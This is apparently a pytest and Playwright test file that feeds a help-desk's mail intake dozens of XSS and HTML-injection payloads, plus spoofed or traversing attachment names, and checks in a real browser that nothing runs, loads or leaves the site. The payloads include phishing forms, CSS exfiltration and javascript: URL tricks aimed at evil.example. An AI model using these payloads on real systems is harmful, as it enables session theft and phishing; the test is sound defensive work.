"""Mail that wants to run, load, or pass for the desk: stored by the real intake, opened in a real browser."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from relaydesk.message import mail_page
from relaydesk.order import Item, Order, OrderRow
from relaydesk.store import TicketFilter, orders
from relaydesk_testkit.campaign.letters import html_attacks, wrong_in
from relaydesk_testkit.full_desk import MORNING, Arrival, receive
from relaydesk_testkit.pages import DeskPages, signed_in

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page, Request

RLO, LRI = "\u202e", "\u2066"
# What the lists of the gateway lack: whole pages, what a page could overlay, and what only a frame can do.
MORE = (
    "<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b)}</style>",
    "<style>body{position:fixed;inset:0;z-index:99999;background:red}</style>",
    "<div style='position:fixed;inset:0;z-index:9999999;background:#fff'>Session expired</div>",
    "<div style='position:absolute;top:-9999px;left:0'>x</div>",
    "<p style='width:expression(EVIL())'>x</p>",
    "<p style=\"background:url('javascript:EVIL()')\">x</p>",
    "<p style='behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#a)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:EVIL()'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta http-equiv=Set-Cookie content='relaydesk_session=evil'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<base target=_top>",
    "<form action=https://evil.example/ method=post><input name=password><button>Sign in</button></form>",
    "<form id=a></form><button form=a formaction=https://evil.example/>x</button>",
    "<input type=image src=https://evil.example/x.png>",
    "<isindex action=https://evil.example/ prompt=password>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.svg>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.EVIL()</script>'></iframe>",
    "<frameset onload=EVIL()><frame src=https://evil.example/></frameset>",
    "<noscript><style></noscript><img src=x onerror=EVIL()></style>",
    "<template><style></template><img src=x onerror=EVIL()></style>",
    "<title><img src=x onerror=EVIL()></title>",
    "<title>Your session has ended</title>",
    "<textarea><img title='</textarea><img src=x onerror=EVIL()>'></textarea>",
    "<style><img title='</style><img src=x onerror=EVIL()>'></style>",
    "<svg><style><img src=x onerror=EVIL()></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=EVIL()>--></style></p></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=EVIL()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=EVIL()>",
    "<svg></p><style><g title='</style><img src=x onerror=EVIL()>'>",
    "<svg><a xlink:href='javascript:EVIL()'><text>x</text></a><animate onbegin=EVIL()></svg>",
    "<a href='data:text/html,<script>EVIL()</script>'>x</a>",
    "<a href='java\tscript:EVIL()'>x</a>",
    "<a href='&#106;avascript:EVIL()'>x</a>",
    "<a href=' \x01javascript:EVIL()'>x</a>",
    "<a href='vbscript:EVIL()'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='filesystem:http://localhost/temporary/x'>x</a>",
    "<a href='https://evil.example/' ping='https://evil.example/ping' target=_top>x</a>",
    "<a href='https://bank.example@evil.example/'>https://bank.example/</a>",
    f"<a href='https://evil.example/'>{RLO}moc.knab//:sptth</a>",
    "<area shape=rect coords='0,0,999,999' href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=https://evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<img srcset='https://evil.example/1.png 1x, https://evil.example/2.png 2x'>",
    "<picture><source srcset=https://evil.example/s.webp><img src=https://evil.example/p.png></picture>",
    "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<body background=https://evil.example/b.png><table background=https://evil.example/t.png><td>x</table>",
    "<img src='cid:../../../sign-out'><img src='cid:%2e%2e/'><img src='CID:\"onerror=EVIL()//'>",
    "<img src='/sign-out'><img src='//localhost/x'><img lowsrc=https://evil.example/l.png>",
    "<img dynsrc=https://evil.example/d.avi><input src=https://evil.example/i.png type=image>",
    "<p id=thread>x</p><p id=said>x</p><form id=answer></form><a name=body>x</a><img name=cookie>",
    "<p hx-get='https://evil.example/' hx-trigger=load hx-target=body>x</p><div hx-on:load='EVIL()'>x</div>",
    "<hx-partial hx-target='body'><h1>x</h1></hx-partial><div hx-swap-oob=outerHTML:body>x</div>",
    "<button data-key=e data-copy=EVIL popovertarget=photo commandfor=photo command=show-modal>x</button>",
    "<details open ontoggle=EVIL()><summary>x</summary></details><dialog open>x</dialog>",
    "<div>" * 5_000 + "deep",
    "<b><i><u><a href=https://evil.example/>" * 2_000,
    "<table><tr><td>" * 1_500 + "x",
    "<p>" + "&amp;" * 40_000,
    "</body></html><script>EVIL()</script>",
    "<!--[if mso]><script>EVIL()</script><![endif]--><![CDATA[<script>EVIL()</script>]]>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>EVIL()</script></html>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}<p>${7*7}</p>",
)
FILES = (
    ("text/html", "invoice.html", b"<script>EVIL()</script>"),
    ("image/svg+xml", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL()'/>"),
    ("image/png", "photo.png", b"<html><script>EVIL()</script></html>"),
    ("application/pdf", f"invoice{RLO}fdp.exe", b"MZ" + bytes(200)),
    ("image/jpeg", "<img src=x onerror=EVIL()>.jpg", b"\xff\xd8\xff\xe0" + bytes(60)),
    ("application/pdf", "../../etc/passwd\r\nX-Evil: 1", b"%PDF-1.4"),
    ("application/octet-stream", "report.pdf.js", b"EVIL()"),
)
SHAPE = """() => {
  const all = [...document.querySelectorAll("*")];
  const handler = (e) => e.getAttributeNames().some((name) => name.startsWith("on"));
  const leads = (e) => new URL(e.getAttribute("formaction") || e.getAttribute("action") || "", location);
  const outward = (e) => leads(e).origin !== location.origin;
  const foreign = "iframe:not(.mail), object, embed, base, meta[http-equiv]";
  return {
    ran: String(window.ran), title: document.title, scripts: document.scripts.length,
    frames: document.querySelectorAll(foreign).length, on: all.filter(handler).length,
    out: [...document.querySelectorAll("form, [formaction]")].filter(outward).length,
  };
}"""
HUGE = 5_000
MARKUP = "<img src=x onerror=EVIL()>"


def batches() -> Iterator[str]:
    """All attacks, several to a mail; what swallows the rest of a page is alone."""
    known = [*html_attacks("runs"), *html_attacks("loads")]
    alone = [html for html in known if not html.endswith(">") or "<style" in html.lower() or "<!--" in html]
    together = [html for html in known if html not in alone]
    short = [html for html in MORE if len(html) < HUGE]
    for some, size in (
        ([*together, *alone], 24),
        (short, 5),
        ([html for html in MORE if len(html) >= HUGE], 1),
    ):
        for at in range(0, len(some), size):
            yield "".join(f"<div>{html}</div>\r\n" for html in some[at : at + size])


@pytest.fixture(scope="module")
def hostile(shared_pages: DeskPages) -> DeskPages:
    """A desk whose mails are attacks."""
    store = shared_pages.desk.store
    attacks = [
        Arrival(1.0, f"evil.{number}", f"READABLE {number}", html=f"<p>READABLE {number}</p>{html}")
        for number, html in enumerate(batches())
    ]
    attacks.append(Arrival(1.0, "evil.names", f"{MARKUP} {RLO}txet", "371202934455811", MARKUP, files=FILES))
    attacks.append(
        Arrival(0.9, "", MARKUP, sender=f'"{MARKUP}" <x@evil.example>', subject=MARKUP, signed=False)
    )
    receive(store, attacks, first=1000)
    marked = Order(
        "371202934455811", items=(Item("1", MARKUP, MARKUP, 2, MARKUP),), state=MARKUP, amount=MARKUP
    )
    orders.put(store, [OrderRow(marked, frozenset({"items", "state", "amount"}))], MORNING)
    return shared_pages


class Watch:
    """A page, and all that it did that no mail may make it do."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.host = page, urlsplit(address).netloc
        self.problems: list[str] = []
        page.on("request", self._asked)
        page.on("dialog", lambda dialog: (self.problems.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda line: self.problems.append(line.text) if line.type == "error" else None)
        page.on("pageerror", lambda error: self.problems.append(f"error {error}"))
        page.on("popup", lambda other: self.problems.append(f"popup {other.url}"))
        page.on("download", lambda _: self.problems.append("download"))
        page.on("framenavigated", self._went)

    def _asked(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.netloc != self.host or parts.path.startswith(("/sign-out", "/x")):
            self.problems.append(f"request {request.url[:120]}")

    def _went(self, frame: object) -> None:
        url = str(getattr(frame, "url", ""))
        if url not in ("", "about:blank") and urlsplit(url).netloc != self.host:
            self.problems.append(f"went to {url[:120]}")

    def opens(self, path: str, title: str) -> None:
        """Opens a page that stays itself."""
        self.page.goto(path)
        self.page.wait_for_timeout(30)
        shape = self.page.evaluate(SHAPE)
        whole = {"ran": "undefined", "scripts": 2, "frames": 0, "on": 0, "out": 0}
        problems = {name: value for name, value in shape.items() if name != "title" and value != whole[name]}
        assert not problems, (path, problems)
        assert title in shape["title"], (path, shape["title"])
        assert urlsplit(self.page.url).path == urlsplit(path).path
        assert not self.problems, (path, self.problems)


def test_no_attack_is_left_in_the_page_of_a_mail() -> None:
    for section in ("runs", "loads", "hidden"):
        for html in html_attacks(section):
            raw = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>READABLE</p>" + html.encode()
            page = mail_page(raw, "/files/1/1/{place}/photo").html
            odd = [wrong for wrong in wrong_in(page) if not _ours(wrong)]
            assert not odd, (html, odd, page)
            assert "READABLE" in page or section == "hidden"


def _ours(wrong: str) -> bool:
    """What the page adds itself, to links."""
    return wrong in (
        "element bdi",
        "element small",
        "attribute target",
        "attribute rel",
        "attribute title",
    ) or (
        wrong.startswith("an attack in <a ")
        and "EVIL" not in wrong.replace("https://", "").partition(" title=")[0]
    )


def test_there_are_many_attacks() -> None:
    assert len(MORE) >= 60
    assert len(html_attacks("runs")) + len(html_attacks("loads")) >= 220


def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(hostile: DeskPages, browser: Browser) -> None:
    rows = hostile.desk.queues.page(TicketFilter(), limit=200).tickets
    evil = [row for row in rows if row.username.startswith("evil.") and row.username != "evil.names"]
    assert len(evil) == len(list(batches()))
    with hostile.served() as address:
        context = signed_in(browser, address, hostile.token("day.agent"))
        context.add_init_script("window.EVIL = () => { window.ran = 'ran'; top.ran = 'ran'; }")
        watch = Watch(context.new_page(), address)
        for row in evil:
            words = f"READABLE {row.username.removeprefix('evil.')}"
            message = hostile.desk.tickets.view(row.id).messages[0].row.id
            watch.opens(f"/tickets/{row.id}/messages/{message}?show=html", f"#{row.id}")
            frame = watch.page.frame_locator("iframe.mail")
            assert words in frame.locator("body").inner_text(), row.username
            assert (
                frame.locator("script, form, input, button, svg, iframe, base, meta[http-equiv]").count() == 0
            )
            assert (
                words in hostile.client("day.agent").get(f"/tickets/{row.id}").text
                if row.id % 9 == 0
                else True
            )
        for row in evil[::5]:
            watch.opens(f"/tickets/{row.id}", row.username)
            assert (
                f"READABLE {row.username.removeprefix('evil.')}" in watch.page.locator("#thread").inner_text()
            )
        context.close()


def test_names_subjects_files_and_orders_are_words(hostile: DeskPages, browser: Browser) -> None:
    rows = {
        row.username or row.subject: row
        for row in hostile.desk.queues.page(TicketFilter(), limit=200).tickets
    }
    named, unproven = rows["evil.names"], rows[MARKUP]
    with hostile.served() as address:
        context = signed_in(browser, address, hostile.token("day.agent"))
        context.add_init_script("window.EVIL = () => { window.ran = 'ran'; }")
        watch = Watch(context.new_page(), address)
        watch.opens("/", "All open")
        watch.opens(f"/tickets/{named.id}", "evil.names")
        page = watch.page
        assert MARKUP in page.locator("#order").inner_text()
        names = page.locator("#thread .btn.file bdi").all_inner_texts()
        assert "report.pdf.js" in names  # whole, with both of its endings
        assert not [name for name in names if RLO in name or "/" in name or "\n" in name]
        assert page.locator("#thread .photos img").count() == 1  # of all these, one is a picture by its bytes
        assert page.get_by_text("May run when it is opened").count() >= 2
        watch.opens(f"/tickets/{unproven.id}", "x@evil.example")
        assert MARKUP in page.locator("h1").inner_text()
        watch.opens(f"/tickets/{unproven.id}/history", "History")
        watch.opens(f"/orders/find?q={MARKUP}", "Orders")
        context.close()


def test_the_frame_is_locked_up_by_its_own_policy(hostile: DeskPages) -> None:
    row = next(
        row for row in hostile.desk.queues.page(TicketFilter(), limit=200).tickets if row.username == "evil.0"
    )
    message = hostile.desk.tickets.view(row.id).messages[0].row.id
    response = hostile.client("day.agent").get(f"/tickets/{row.id}/messages/{message}/frame")
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "script-src" not in policy
